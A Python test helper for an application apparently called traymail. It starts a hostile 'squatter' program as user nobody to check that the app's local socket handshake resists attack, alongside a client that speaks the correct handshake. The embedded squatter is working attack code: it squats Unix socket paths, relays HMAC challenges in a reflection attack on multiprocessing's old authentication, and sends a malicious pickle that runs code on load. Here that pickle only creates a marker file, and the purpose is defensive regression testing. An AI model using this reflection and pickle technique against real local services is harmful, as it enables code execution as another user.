"""Another local user for the tests: programs run as ``nobody`` through
setpriv (the tests run as root, as CI does). Without root or setpriv the
tests that need it are skipped -- or fail under TRAYMAIL_REQUIRE_REAL=1."""

from __future__ import annotations

import json
import os
import pwd
import shutil
import subprocess
import sys

from .realservers import require_real

#: a hostile local user's program (stdlib only): listens on every path given,
#: and for each connection either relays multiprocessing's HMAC challenge
#: between two connections (the reflection of the old channel) and then
#: answers with a pickle that would create ``marker``, or, given the key
#: (as if it had leaked), speaks traymail's own handshake and says "ok".
SQUATTER = r'''
import hmac, hashlib, json, os, queue, socket, sys, threading
from multiprocessing.connection import Connection
cfg = json.loads(sys.argv[1])
marker = cfg["marker"]

class Evil:
    def __reduce__(self):
        return (open, (marker, "w"))

import pickle
PAYLOAD = pickle.dumps(Evil())
CH, WELCOME = b"#CHALLENGE#", b"#WELCOME#"
challenges, digests = queue.Queue(), queue.Queue()
lock = threading.Lock()
count = [0]

def say(*a):
    with lock:
        print(*a, flush=True)

def reflect(conn, n):
    try:
        if n % 2 == 1:  # the first connection: the start-up probe
            conn.send_bytes(CH + os.urandom(20))
            conn.recv_bytes(256)            # its answer: useless without the key
            conn.send_bytes(WELCOME)        # ...but the old client does not check
            challenges.put(conn.recv_bytes(256))  # the client's own challenge
            conn.send_bytes(digests.get(timeout=60))  # answered by the victim itself
            say("reflected", conn.recv_bytes(256))
            say("command", conn.recv_bytes(256))
            conn.send_bytes(PAYLOAD)
            say("pickle sent")
        else:  # the second connection: the ping after the failed bind
            conn.send_bytes(challenges.get(timeout=60))
            digests.put(conn.recv_bytes(256))
            conn.send_bytes(WELCOME)
            conn.recv_bytes(256)
            conn.send_bytes(b"x")
    except Exception as exc:
        say("error", repr(exc))

def own_protocol(conn, n):
    key = bytes.fromhex(cfg["key"])
    magic = b"TRAYMAIL-INSTANCE/2"
    def mac(role, *parts):
        data = b"".join(len(p).to_bytes(2, "big") + p for p in (magic, role, *parts))
        return hmac.new(key, data, hashlib.sha256).digest()
    try:
        ns = os.urandom(32)
        conn.send_bytes(magic + b"\n" + ns)
        req = conn.recv_bytes(256)
        word, _, rest = req.partition(b"\n")
        say("command", word)
        conn.send_bytes(b"ok\n" + mac(b"server", ns, rest[:32], word, b"ok"))
    except Exception as exc:
        say("error", repr(exc))

def serve(sock):
    while True:
        c, _ = sock.accept()
        with lock:
            count[0] += 1
            n = count[0]
        say("connection", n)
        conn = Connection(c.detach())
        target = own_protocol if cfg.get("key") else reflect
        threading.Thread(target=target, args=(conn, n), daemon=True).start()

for path in cfg.get("dirs", []):
    os.makedirs(path, exist_ok=True)
for path in cfg.get("listen", []):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.bind(path)
    except OSError as exc:
        say("cannot bind", path, exc)
        continue
    os.chmod(path, 0o777)
    s.listen(8)
    threading.Thread(target=serve, args=(s,), daemon=True).start()
for path in cfg.get("mkdir", []):
    try:
        os.mkdir(path)
    except OSError as exc:
        say("cannot mkdir", path, exc)
say("ready")
sys.stdin.read()  # until the test closes our stdin
'''

#: a client of another uid that holds the key and speaks the handshake right
CLIENT = r'''
import hmac, hashlib, json, os, socket, sys
from multiprocessing.connection import Connection
cfg = json.loads(sys.argv[1])
key, magic = bytes.fromhex(cfg["key"]), b"TRAYMAIL-INSTANCE/2"
def mac(role, *parts):
    data = b"".join(len(p).to_bytes(2, "big") + p for p in (magic, role, *parts))
    return hmac.new(key, data, hashlib.sha256).digest()
s = socket.socket(socket.AF_UNIX)
s.connect(cfg["path"])
conn = Connection(s.detach())
try:
    hello = conn.recv_bytes(256)
    ns = hello.partition(b"\n")[2]
    nc = os.urandom(32)
    conn.send_bytes(b"quit\n" + nc + mac(b"client", ns, nc, b"quit"))
    print("reply", conn.recv_bytes(256)[:8])
except (EOFError, OSError) as exc:
    print("refused", repr(exc))
'''


def nobody_command() -> list[str]:
    """argv prefix that runs a Python program as the user nobody."""
    if os.geteuid() != 0:
        require_real("a second uid", "these tests run as root (CI does) and start the "
                     "squatter as 'nobody' with setpriv")
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        require_real("setpriv", "install util-linux")
    try:
        pwd.getpwnam("nobody")
    except KeyError:
        require_real("the user nobody", "no such user")
    assert setpriv is not None
    prefix = [setpriv, "--reuid=nobody", "--regid=nogroup", "--clear-groups"]
    for python in (sys.executable, "/usr/bin/python3", "/usr/local/bin/python3"):
        if os.path.exists(python) and subprocess.run(
                [*prefix, python, "-I", "-c", "import multiprocessing.connection"],
                capture_output=True, timeout=30).returncode == 0:
            return [*prefix, python, "-I", "-c"]
    require_real("a Python runnable as nobody", "no interpreter found that nobody may run")
    raise AssertionError("unreachable")


class Squatter:
    def __init__(self, **cfg: object) -> None:
        self.proc = subprocess.Popen([*nobody_command(), SQUATTER, json.dumps(cfg)],
                                     stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                     stderr=subprocess.STDOUT, text=True)
        assert self.proc.stdout is not None
        self.lines: list[str] = []
        for line in self.proc.stdout:
            self.lines.append(line.rstrip("\n"))
            if line.startswith("ready"):
                break
        else:
            raise AssertionError("the squatter did not start: " + "\n".join(self.lines))

    def stop(self) -> list[str]:
        assert self.proc.stdin is not None and self.proc.stdout is not None
        self.proc.stdin.close()
        try:
            self.proc.wait(10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait(10)
        self.lines += [line.rstrip("\n") for line in self.proc.stdout]
        return self.lines

    @property
    def contacted(self) -> bool:
        return any(line.startswith("connection") for line in self.lines)
